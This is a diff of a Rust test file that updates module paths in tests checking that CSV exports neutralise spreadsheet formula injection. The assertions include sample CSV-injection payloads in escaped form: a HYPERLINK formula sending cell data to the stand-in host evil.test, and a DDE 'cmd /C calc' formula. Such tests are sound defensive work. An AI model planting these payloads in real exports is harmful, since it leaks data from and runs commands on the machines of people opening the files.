@@ -6,9 +6,9 @@ use std::collections::HashMap;
 use std::io::Read;
 use std::sync::Arc;
 
-use crate::clock::ManualClock;
-use crate::csv_cell::is_live_formula;
-use crate::org::Org;
+use crate::base::clock::ManualClock;
+use crate::base::csv_cell::is_live_formula;
+use crate::kernel::org::Org;
 use crate::tests::hostile_input::corpus;
 use crate::tests::testing::{demo_org, sign_in, user_with_all_data};
 use crate::{AuditQuery, SeatChange, Unwatched};
@@ -100,7 +100,7 @@ fn the_audit_export_neutralizes_account_names_mistyped_at_sign_in() {
         .unwrap();
     let cells = assert_spreadsheet_safe("audit export", &std::fs::read(&dest).unwrap());
     for login in &typed {
-        let written = crate::csv_cell::neutralize(login);
+        let written = crate::base::csv_cell::neutralize(login);
         assert!(cells.contains(&written.into_owned()), "{login:?}");
     }
     assert!(cells.contains(&"'=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")".to_owned()));
@@ -137,7 +137,7 @@ fn the_billing_export_neutralizes_product_and_account_names_from_the_file() {
         }
         org.export_billing_history(billing, &dest).unwrap();
         let cells = assert_spreadsheet_safe("billing export", &std::fs::read(&dest).unwrap());
-        let expected = crate::csv_cell::neutralize(&value).into_owned();
+        let expected = crate::base::csv_cell::neutralize(&value).into_owned();
         assert!(cells.contains(&expected), "{value:?}");
     }
     // Amounts that are negative are kept as text too.
@@ -166,11 +166,11 @@ fn user_data_zips_and_safety_archives_neutralize_every_csv_cell() {
     let cells = assert_zip_csvs_safe("user-data export", &dest);
     assert!(cells.contains(&"'=cmd|' /C calc'!A0".to_owned()));
     assert!(cells.contains(&"'+15125550123".to_owned()));
-    let user = crate::users::user_detail(&org.conn, user.id).unwrap();
+    let user = crate::domain::users::directory::user_detail(&org.conn, user.id).unwrap();
     let receipt = org
         .remove_license(
             admin,
-            &crate::removal::RemoveLicense {
+            &crate::domain::licenses::removal::RemoveLicense {
                 user_id: user.id,
                 expected_version: user.version,
             },
